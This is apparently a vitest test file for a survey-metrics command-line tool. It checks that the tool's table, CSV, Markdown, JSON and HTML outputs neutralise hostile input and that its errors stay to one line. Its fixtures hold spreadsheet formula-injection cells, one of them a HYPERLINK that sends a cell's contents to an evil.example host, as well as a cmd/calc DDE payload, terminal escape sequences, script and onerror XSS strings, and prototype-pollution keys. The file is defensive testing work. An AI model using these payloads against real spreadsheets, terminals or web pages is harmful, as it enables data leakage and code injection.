// The command's outputs and messages against hostile names, flags, claims and outputs (issue #18): segment names that
// are Object.prototype's, cells a spreadsheet would run, terminal escape sequences and markup in values and claim ids,
// a page of 73,767 rows, claims that cannot be checked, and usage errors that must be one line with exit code 2, never
// a stack trace. In-process through `main` where a process is not needed; in a child process (`runCommand`, under a
// time and heap limit) where the process itself is under test (EPIPE, /dev/full, the library's group limit).
import { spawn } from "node:child_process";
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { checkReport } from "../../src/check/check-report.js";
import { spreadsheetSafe, visible, markdownText } from "../../src/cli/format/safe.js";
import { main } from "../../src/cli/main.js";
import { duckDbFailure } from "../../src/cli/report-read.js";
import { sink } from "./capture.js";
import { isOneLineError, runCommand } from "./hostile.js";

const dir = mkdtempSync(join(tmpdir(), "cx-robust-out-"));

/** Writes a file into the test's folder; its path. */
function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

/** Runs the command in this process; the exit code, standard output and standard error. */
async function run(args: readonly string[]): Promise<{ code: number; out: string; err: string }> {
  const stdout = sink();
  const stderr = sink();
  const code = await main(args, { stdout, stderr, env: {} });
  return { code, out: stdout.text(), err: stderr.text() };
}

/** A one-line usage error in this process: exit code 2 and one line on standard error starting "cx-metrics:". */
function expectOneLine(result: { code: number; out: string; err: string }, pattern: RegExp): void {
  expect(result.code).toBe(2);
  expect(result.err.endsWith("\n")).toBe(true);
  expect(result.err.trimEnd().split("\n")).toHaveLength(1);
  expect(result.err).toMatch(/^cx-metrics: /);
  expect(result.err).toMatch(pattern);
}

/** C0 and C1 controls, DEL, line separators and bidirectional controls: what a terminal must never get raw. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is what this regex is for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const quote = (field: string): string => (/[",\r\n]/.test(field) ? `"${field.replace(/"/g, '""')}"` : field);
const csvLine = (cells: readonly string[]): string => `${cells.map(quote).join(",")}\n`;

const FORMATS = ["table", "csv", "markdown", "json", "html"] as const;
const ENGINES = ["js", "duckdb"] as const;

describe("segments named like Object.prototype's properties (item 2)", () => {
  // score,__proto__,constructor: 10,a,b / 3,c,d / 9,a,d. By __proto__: a = {10, 9} (n 2, NPS +100), c = {3} (n 1,
  // −100). By constructor: b = {10} (n 1, +100), d = {3, 9} (n 2, 0). Overall: 2 promoters, 1 detractor of 3.
  const path = file("proto.csv", "score,__proto__,constructor\n10,a,b\n3,c,d\n9,a,d\n");
  // A Map: in an object literal, a "__proto__" key would set the prototype (the very trap under test).
  const expected = new Map<string, (readonly [string, number])[]>([
    [
      "__proto__",
      [
        ["all", 3],
        ["a", 2],
        ["c", 1],
      ],
    ],
    [
      "constructor",
      [
        ["all", 3],
        ["b", 1],
        ["d", 2],
      ],
    ],
  ]);
  const cases = ENGINES.flatMap((engine) =>
    ["__proto__", "constructor"].flatMap((key) => FORMATS.map((format) => ({ engine, key, format }))),
  );
  it.each(cases)(
    "--by $key --format $format --engine $engine: the file's values, never {} or a function",
    async ({ engine, key, format }) => {
      const result = await run([
        "report",
        path,
        "-m",
        "nps",
        "--by",
        key,
        "--format",
        format,
        "--engine",
        engine,
        "-q",
      ]);
      expect(result.err.includes("    at ")).toBe(false);
      expect(result.code).toBe(0);
      expect(result.out).not.toMatch(/function|native code|\[object Object\]/);
      if (format !== "json") expect(result.out).not.toContain("{}"); // the JSON's overall row has segment {}
      const want = expected.get(key)!;
      switch (format) {
        case "json": {
          const rows = (JSON.parse(result.out) as { rows: { segment: Record<string, string>; n: number }[] }).rows;
          expect(rows.map((row) => [Object.hasOwn(row.segment, key) ? row.segment[key] : "all", row.n])).toEqual(want);
          expect(rows.map((row) => Object.keys(row.segment).length)).toEqual([0, 1, 1]);
          break;
        }
        case "csv": {
          const [head, ...rows] = parse(result.out) as string[][];
          const at = head!.indexOf(key);
          const n = head!.indexOf("n");
          expect(at).toBe(1);
          expect(rows.map((row) => [row[at] === "" ? "all" : row[at], Number(row[n])])).toEqual(want);
          break;
        }
        case "table": {
          const lines = result.out.split("\n").slice(1, 4);
          expect(lines.map((line) => line.split(/\s+/).slice(0, 2))).toEqual(want.map(([v, n]) => [v, String(n)]));
          break;
        }
        case "markdown":
          for (const [value, n] of want) expect(result.out).toContain(`| ${value} | ${n} |`);
          break;
        case "html":
          for (const [value, n] of want) expect(result.out).toContain(`<td>${value}</td><td class="num">${n}</td>`);
          break;
      }
    },
  );
});

describe("cells a spreadsheet would run as formulas (item 3)", () => {
  // Each segment value starts with a character that makes Excel, LibreOffice or Sheets read a formula (OWASP), except
  // "-5" (a plain number) and "plain". Scores: =HYPERLINK 10, @SUM 3, +cmd 9, -1+1 5, -5 7, tab 8, plain 10; a score
  // "=1+1" is rejected. Header "@team" is a --by column name.
  const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0", "-1+1"];
  const rows: [string, string][] = [
    ["10", cells[0]!],
    ["3", cells[1]!],
    ["9", cells[2]!],
    ["5", cells[3]!],
    ["7", "-5"],
    ["8", "\ttab"],
    ["10", "plain"],
    ["=1+1", "plain"],
  ];
  const path = file("formulas.csv", csvLine(["score", "@team"]) + rows.map((row) => csvLine(row)).join(""));
  const dangerous = (cell: string): boolean =>
    /^ *[=+\-@\t\r\n\0]/.test(cell) && !/^ *[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)? *$/.test(cell);

  it.each(ENGINES)(
    "--format csv and --rejects (--engine %s): a quote before each, plain numbers kept",
    async (engine) => {
      const rejects = join(dir, `rejects-${engine}.csv`);
      const result = await run([
        "report",
        path,
        "-m",
        "nps",
        "--by",
        "@team",
        "--format",
        "csv",
        "--rejects",
        rejects,
        "--engine",
        engine,
        "-q",
      ]);
      expect(result.code).toBe(0);
      const table = parse(result.out) as string[][];
      const all = [...table.flat(), ...(parse(readFileSync(rejects, "utf8")) as string[][]).flat()];
      expect(all.filter(dangerous)).toEqual([]);
      expect(table[0]![1]).toBe("'@team");
      const segments = table.slice(1).map((row) => row[1]);
      for (const cell of cells) expect(segments).toContain(`'${cell}`);
      expect(segments).toContain("-5"); // a plain number stays a number
      expect(segments).toContain("'\ttab");
      expect(segments).toContain("plain");
      // "@SUM(1+1)" is one detractor: NPS −100, its interval's low end negative; numbers are never prefixed.
      const sum = table.find((row) => row[1] === "'@SUM(1+1)")!;
      expect(sum[table[0]!.indexOf("value")]).toBe("-100");
      expect(Number(sum[table[0]!.indexOf("low")])).toBeLessThan(0);
      const rejected = parse(readFileSync(rejects, "utf8")) as string[][];
      expect(rejected[1]!.slice(0, 3)).toEqual(["9", "score", "'=1+1"]); // line 9: the header is line 1
    },
  );

  it("the rule, cell by cell", () => {
    const cases: [string, string][] = [
      ["=1+1", "'=1+1"],
      ["+1+1", "'+1+1"],
      ["-1+1", "'-1+1"],
      ["@SUM(1)", "'@SUM(1)"],
      ["\t=1", "'\t=1"],
      ["\r=1", "'\r=1"],
      [" =1", "' =1"],
      ["\uff1d1+1", "'\uff1d1+1"],
      ["-5", "-5"],
      ["-73.33513720565182", "-73.33513720565182"],
      ["+2", "+2"],
      ["1e-7", "1e-7"],
      ["-1.5e+3", "-1.5e+3"],
      ["-1,5", "-1,5"],
      ["-", "'-"],
      ["--5", "'--5"],
      ["-Infinity", "'-Infinity"],
      ["a=b", "a=b"],
      ["", ""],
    ];
    for (const [cell, safe] of cases) expect([cell, spreadsheetSafe(cell)]).toEqual([cell, safe]);
  });
});

describe("control characters and markup from the data (item 4)", () => {
  const hostile = [
    "a\u001b[31mred\u001b]0;title\u0007", // colour, then a window title set by OSC
    "\u202eevil", // right-to-left override
    "x\u009by", // a one-byte CSI
    "<script>alert(1)</script>",
    "a|b\nc", // a pipe and a line break
    "[click](javascript:alert(1))",
  ];
  const path = file(
    "escapes.csv",
    `${csvLine(["score", "team"])}${hostile.map((team, i) => csvLine([String(i + 5), team])).join("")}\u001b[2J,x\n`,
  );

  it("the terminal table shows them escaped, and the rejected cell too", async () => {
    const result = await run(["report", path, "-m", "nps", "--by", "team", "--engine", "js", "-q"]);
    expect(result.code).toBe(0);
    expect(result.out).not.toMatch(RAW_CONTROL);
    expect(result.out).toContain("a\\x1b[31mred\\x1b]0;title\\x07");
    expect(result.out).toContain("\\u202eevil");
    expect(result.out).toContain("x\\x9by");
    expect(result.out).toContain("a|b\\nc");
    expect(result.out).toContain('line 9: "\\u001b[2J" in column "score"'); // the rejected cell, as JSON writes it
  });

  it("a column name with escapes, in the reject under --strict and with no usable row: one line, escaped", async () => {
    const header = "sc\u001b]0;x\u0007ore";
    const bad = file("escape-header.csv", `${csvLine([header, "team"])}ten,a\n`);
    const strict = await run(["report", bad, "-m", "nps", "--column", `score=${header}`, "--strict", "-q"]);
    expect(strict.code).toBe(1);
    expect(strict.err).toBe(
      'cx-metrics: bad row under --strict: line 2: "ten" in column "sc\\u001b]0;x\\u0007ore" is not a number: an NPS answer on the 0-10 scale is a whole number from 0 to 10; check that the column is the survey question\'s (--column)\n',
    );
    const none = await run(["report", bad, "-m", "nps", "--column", `score=${header}`, "--engine", "js", "-q"]);
    expect(none.code).toBe(1);
    expect(none.err).not.toMatch(RAW_CONTROL);
  });

  it("Markdown takes no HTML, link or line break from a value, and a pipe cannot end a cell", async () => {
    const result = await run(["report", path, "-m", "nps", "--by", "team", "--engine", "js", "-q", "-f", "markdown"]);
    expect(result.code).toBe(0);
    expect(result.out).not.toMatch(RAW_CONTROL);
    expect(result.out).not.toContain("<script");
    expect(result.out).toContain("| &lt;script&gt;alert(1)&lt;/script&gt; |");
    expect(result.out).toContain("| a\\|b<br>c |");
    expect(result.out).toContain("| \\[click\\](javascript:alert(1)) |");
    // Every row of the table has the header's 8 cells (team, n, NPS, interval, change, p, p adj., note): 9 unescaped
    // pipes.
    for (const line of result.out.split("\n").filter((text) => text.startsWith("|")))
      expect(line.split(/(?<!\\)\|/)).toHaveLength(10);
  });

  it("HTML escapes markup and shows control characters escaped", async () => {
    const result = await run(["report", path, "-m", "nps", "--by", "team", "--engine", "js", "-q", "-f", "html"]);
    expect(result.code).toBe(0);
    expect(result.out).not.toMatch(RAW_CONTROL);
    expect(result.out).not.toContain("<script");
    expect(result.out).toContain("<td>a|b<br>c</td>");
  });

  it("claim ids: escaped in the check table, plain text in Markdown, escaped in a one-line error", async () => {
    const claims = file(
      "escape-claims.json",
      JSON.stringify({
        claims: [
          { id: "q1\u001b[2J\u001b]0;pwned\u0007", metric: "nps", value: "50", promoters: "70%", detractors: "20%" },
          { id: "<img src=x onerror=alert(1)>|x", metric: "nps", value: "50", promoters: "70%", detractors: "20%" },
        ],
      }),
    );
    const table = await run(["check", claims]);
    expect(table.code).toBe(0); // 70 − 20 = 50 (Osipov): both match
    expect(table.out).not.toMatch(RAW_CONTROL);
    expect(table.out).toContain("q1\\x1b[2J\\x1b]0;pwned\\x07");
    const markdown = await run(["check", claims, "--format", "markdown"]);
    expect(markdown.out).not.toMatch(RAW_CONTROL);
    expect(markdown.out).not.toContain("<img");
    expect(markdown.out).toContain("| &lt;img src=x onerror=alert(1)&gt;\\|x | nps |");
    const bad = file(
      "escape-bad.json",
      JSON.stringify({ claims: [{ id: "z\u001b[2J\nz", metric: "nope", value: "1" }] }),
    );
    const error = await run(["check", bad]);
    expectOneLine(error, /claim z\\x1b\[2J\\nz: metric is "nope"/);
    expect(error.err).not.toMatch(RAW_CONTROL);
  });

  it("visible and markdownText, character by character", () => {
    expect(visible("\u0000\u0008\t\n\r\u001b\u007f\u0085\u009b\u200e\u2028\u2066é✓")).toBe(
      "\\x00\\x08\\t\\n\\r\\x1b\\x7f\\x85\\x9b\\u200e\\u2028\\u2066é✓",
    );
    // "n < 30" is no tag and stays as written; "<b>" and "&amp;" would be markup.
    expect(markdownText("n < 30, <b>x</b> &amp; *y* _z_ `c` \\")).toBe(
      "n < 30, &lt;b&gt;x&lt;/b&gt; &amp;amp; \\*y\\* \\_z\\_ \\`c\\` \\\\",
    );
  });
});

describe("a daily per-agent report as an HTML page (item 5)", () => {
  it("200 agents x 366 days: a page with 73,767 rows and its chart, no stack overflow", async () => {
    // One response per agent and day of 2024 (a leap year: 366 days), score (7 a + d) mod 11.
    let text = "score,agent,respondedAt\n";
    for (let a = 0; a < 200; a++)
      for (let d = 0; d < 366; d++)
        text += `${(7 * a + d) % 11},agent${a},${new Date(Date.UTC(2024, 0, 1 + d, 12)).toISOString()}\n`;
    const path = file("daily.csv", text);
    const page = join(dir, "daily.html");
    const result = await run([
      "report",
      path,
      "-m",
      "nps",
      "--by",
      "agent",
      "--every",
      "day",
      "-f",
      "html",
      "-o",
      page,
      "--engine",
      "js",
    ]);
    expect(result.err).toBe("");
    expect(result.code).toBe(0);
    const html = readFileSync(page, "utf8");
    expect(html).toContain("<svg");
    // Rows: the overall segment and each of the 200 agents, each with 366 days and an all-period row: 201 x 367.
    const body = html.slice(html.indexOf("<tbody>"), html.indexOf("</tbody>"));
    expect(body.split("</tr>").length - 1).toBe(201 * 367);
    // The chart: the overall line and the 10 largest agents (one per colour), 366 points each; the caption says so.
    expect(html.split("<circle").length - 1).toBe(11 * 366);
    expect(html).toContain("lines: all and the 10 largest of 200 segments");
  }, 120_000);
});

describe("claims that cannot be checked (item 1)", () => {
  const survey = file("survey-ratings.csv", "rating,channel\n5,a\n4,b\n");

  it("no data and nothing else printed: a mismatch that says it could not be checked, exit 1", async () => {
    const claims = file("nothing.json", JSON.stringify({ claims: [{ id: "z", metric: "nps", value: "42" }] }));
    const result = await run(["check", claims, "--format", "json"]);
    expect(result.code).toBe(1);
    const [claim] = (JSON.parse(result.out) as { claims: { verdict: string; explanation: string }[] }).claims;
    expect(claim!.verdict).toBe("mismatch");
    expect(claim!.explanation).toMatch(/^cannot be checked: no data/);
  });

  it('{"id":"y","metric":"sla","value":"250%"}: impossible, a mismatch with the reason, exit 1', async () => {
    const claims = file("impossible.json", JSON.stringify({ claims: [{ id: "y", metric: "sla", value: "250%" }] }));
    const result = await run(["check", claims]);
    expect(result.code).toBe(1);
    expect(result.out).toMatch(/^y +sla +250% +mismatch$/m);
    expect(result.out).toContain("y: 250% is impossible for sla: it lies between 0 and 100 %");
  });

  it("an impossible figure with data is a mismatch too, whatever the data give", () => {
    // Ratings 5 and 4 on 1-5: CSAT 100 %. "250%" and an NPS of "150" are impossible, and so is a duration of -5.
    const data = { survey: [{ rating: 5 }, { rating: 4 }], scores: [{ score: 10 }] };
    const result = checkReport(
      {
        claims: [
          { id: "csat", metric: "csat", data: "survey", value: "250%" },
          { id: "nps", metric: "nps", data: "scores", value: "150" },
          { id: "frt", metric: "first-response", value: "-5", n: 3 },
        ],
      },
      data,
    );
    expect(result.claims.map((claim) => claim.verdict)).toEqual(["mismatch", "mismatch", "mismatch"]);
    expect(result.claims[0]!.explanation).toContain("250% is impossible for csat");
    expect(result.claims[1]!.explanation).toContain("NPS 150 is impossible");
    expect(result.claims[2]!.explanation).toContain("a duration is not negative");
  });

  it("a data set without the metric's column stops the check in one line, as report does (exit 2)", async () => {
    const claims = file(
      "no-score.json",
      JSON.stringify({ data: { s: survey }, claims: [{ id: "x", metric: "nps", data: "s", value: "42" }] }),
    );
    expectOneLine(await run(["check", claims]), /data set "s" .*no column "score" for score.*"columns"/);
    // and the same data set read by report
    expectOneLine(await run(["report", survey, "-m", "nps", "-q"]), /no column "score"/);
  });

  it("a claim without an id or a metric is named by its position, and what is missing is said", async () => {
    const claims = file(
      "unnamed.json",
      JSON.stringify({ claims: [{ id: "a", metric: "nps", value: "1", n: 1 }, { value: "42" }] }),
    );
    expectOneLine(await run(["check", claims]), /claim 2 \(no id\): id is missing/);
    const noMetric = file("no-metric.json", JSON.stringify({ claims: [{ id: "q", value: "42" }] }));
    expectOneLine(await run(["check", noMetric]), /claim q: metric is missing, expected one of nps, csat/);
    const noValue = file("no-value.json", JSON.stringify({ claims: [{ id: "q", metric: "nps" }] }));
    expectOneLine(await run(["check", noValue]), /claim q: value is missing/);
  });

  it('a claims scorecard with criteria: "abc", and other fields of the wrong shape: one line each', async () => {
    const shapes: [unknown, RegExp][] = [
      [{ scorecard: { criteria: "abc" } }, /options\.scorecard\.criteria is "abc", expected a list of criteria/],
      [{ scorecard: { criteria: [{ weight: 1 }] } }, /options\.scorecard\.criteria\[0\] is .*"id"/],
      [{ scorecard: "abc" }, /options\.scorecard is "abc"/],
    ];
    for (const [options, pattern] of shapes) {
      const claims = file(
        "scorecard.json",
        JSON.stringify({
          data: { s: survey },
          claims: [{ id: "q", metric: "iqs", data: "s", value: "80%", options }],
        }),
      );
      expectOneLine(await run(["check", claims]), pattern);
    }
    const wrong: [Record<string, unknown>, RegExp][] = [
      [{ filter: "abc" }, /claim q: filter is "abc"/],
      [{ n: "12" }, /claim q: n is "12"/],
      [{ statistic: "p101" }, /claim q: statistic is "p101"/],
      [{ shares: "30%" }, /claim q: shares is "30%"/],
      [{ data: "toString" }, /claim q: no data set "toString"/],
      [{ data: "s", metric: "sla" }, /claim q: options\.policy is missing/],
      [{ metric: "nps", promoters: "lots", detractors: "1%" }, /claim q: .*"lots" is not a number/],
    ];
    for (const [fields, pattern] of wrong) {
      const claims = file(
        "wrong.json",
        JSON.stringify({ data: { s: survey }, claims: [{ id: "q", metric: "csat", value: "80%", ...fields }] }),
      );
      expectOneLine(await run(["check", claims]), pattern);
    }
  });
});

describe("usage errors: one line, exit 2 (item 6)", () => {
  const survey = file("survey.csv", "score,channel\n10,a\n3,b\n9,a\n");
  const missing = join(dir, "no-such-folder", "out.csv");

  it.each([
    [["--preset", "toString"], /--preset toString: expected one of zendesk, delighted, typeform/],
    [["--preset", "__proto__"], /--preset __proto__: expected one of/],
    [["--delimiter", '"'], /--delimiter "\\"": expected one character other than a quote or a line break/],
    [["--delimiter", "\n"], /--delimiter "\\n": expected one character/],
    [["--column", "score=score", "--column", "score=Score"], /--column score is given twice/],
    [["--output", missing], /--output .*no-such-folder.*: cannot write there: no folder/],
    [["--rejects", missing], /--rejects .*no-such-folder.*: cannot write there: no folder/],
    [["--output", dir], /--output .*: cannot write there: it is a folder/],
  ])("report %j", async (flags, pattern) => {
    for (const engine of ENGINES)
      expectOneLine(await run(["report", survey, "-m", "nps", "--engine", engine, "-q", ...flags]), pattern);
    expect(existsSync(join(dir, "no-such-folder"))).toBe(false);
  });

  it("a check's data set with a delimiter that is a quote, or a preset named toString", async () => {
    for (const [source, pattern] of [
      [{ path: survey, delimiter: '"' }, /data set "s": delimiter "\\"": expected one character/],
      [{ path: survey, preset: "toString" }, /data set "s": preset toString: expected one of/],
    ] as const) {
      const claims = file(
        "delimiter.json",
        JSON.stringify({ data: { s: source }, claims: [{ id: "q", metric: "nps", data: "s", value: "33" }] }),
      );
      expectOneLine(await run(["check", claims]), pattern);
    }
  });

  it("DuckDB's INTERNAL Error: one line saying what failed, DuckDB's first line only, and --engine js", () => {
    const error = new Error(
      "INTERNAL Error: Attempted to access index 3 within vector of size 3\n\nThis error signals an assertion failure within DuckDB.\nStack Trace:\n  0 duckdb::Exception::Exception",
    );
    const csv = duckDbFailure(error, "x.csv", false);
    expect(csv).toBe(
      "DuckDB failed inside while reading x.csv (INTERNAL Error: Attempted to access index 3 within vector of size 3), a fault of DuckDB, not of the file; reading it with the JS reader instead (--engine js skips DuckDB)",
    );
    const parquet = duckDbFailure(error, "x.parquet", true);
    expect(parquet.split("\n")).toHaveLength(1);
    expect(parquet).toMatch(/^DuckDB failed inside while reading x\.parquet \(INTERNAL Error: .*\): a fault of DuckDB/);
    expect(parquet).toContain("--engine js");
  });
});

describe("usage errors in a child process: no stack trace (item 6)", { concurrent: true, timeout: 120_000 }, () => {
  const survey = file("child-survey.csv", "score,channel\n10,a\n3,b\n9,a\n");

  it("--preset toString", async () => {
    const outcome = await runCommand(["report", survey, "-m", "nps", "--preset", "toString"]);
    expect(isOneLineError(outcome)).toBe(true);
  });

  it("--output /dev/full (report and check): no space left, one line", async () => {
    const report = await runCommand(["report", survey, "-m", "nps", "-o", "/dev/full"]);
    expect(isOneLineError(report)).toBe(true);
    expect(report.err).toContain("--output /dev/full: cannot write there: no space left on the device");
    const claims = file("full.json", JSON.stringify({ claims: [{ id: "x", metric: "nps", value: "1", n: 1 }] }));
    const check = await runCommand(["check", claims, "-o", "/dev/full"]);
    expect(isOneLineError(check)).toBe(true);
  });

  it('a claims scorecard with criteria: "abc"', async () => {
    const claims = file(
      "abc.json",
      JSON.stringify({
        data: { s: survey },
        claims: [{ id: "q", metric: "iqs", data: "s", value: "80%", options: { scorecard: { criteria: "abc" } } }],
      }),
    );
    const outcome = await runCommand(["check", claims]);
    expect(isOneLineError(outcome)).toBe(true);
  });

  it("| head -1 on a large output (EPIPE): stops quietly with exit 0", async () => {
    // 30,000 segments: a table of about 2 MB, far more than a pipe holds (64 KB), so the write meets the closed pipe.
    let text = "score,id\n";
    for (let i = 0; i < 30_000; i++) text += `${i % 11},s${i}\n`;
    const path = file("many.csv", text);
    for (const format of ["table", "json"]) {
      const outcome = await headOne(["report", path, "-m", "nps", "--by", "id", "--format", format, "-q"]);
      expect(outcome.err).toBe("");
      expect(outcome.code).toBe(0);
    }
  });

  it.each(ENGINES)("more segments than the library's maxGroups (--engine %s): one line, exit 2", async (engine) => {
    // 100,500 distinct segments, more than summarize's default maxGroups of 100,000 segment x period groups.
    let text = "score,id\n";
    for (let i = 0; i < 100_500; i++) text += `9,s${i}\n`;
    const path = file(`groups-${engine}.csv`, text);
    const outcome = await runCommand(["report", path, "-m", "nps", "--by", "id", "--engine", engine], {
      timeoutMs: 90_000,
      heapMb: 1024,
    });
    // In the command's words: the flag that makes the groups, and no "maxGroups" (a library option, not a flag).
    expect(outcome.err).toMatch(/more than 100,000 segment × period groups \(--by id\)/);
    expect(outcome.err).not.toContain("maxGroups");
    expect(isOneLineError(outcome)).toBe(true);
  });
});

const BIN = fileURLToPath(new URL("../../src/cli/bin.ts", import.meta.url));

/** Runs the command with its standard output closed after the first chunk, as `| head -1` does. */
function headOne(args: readonly string[]): Promise<{ code: number | null; err: string }> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, ["--import", "tsx", BIN, ...args], {
      env: { ...process.env, NO_COLOR: "1" },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let err = "";
    const timer = setTimeout(() => child.kill("SIGKILL"), 60_000);
    child.stdout.once("data", () => child.stdout.destroy());
    child.stderr.on("data", (chunk: Buffer) => {
      err += chunk.toString("utf8");
    });
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(timer);
      resolve({ code, err });
    });
  });
}
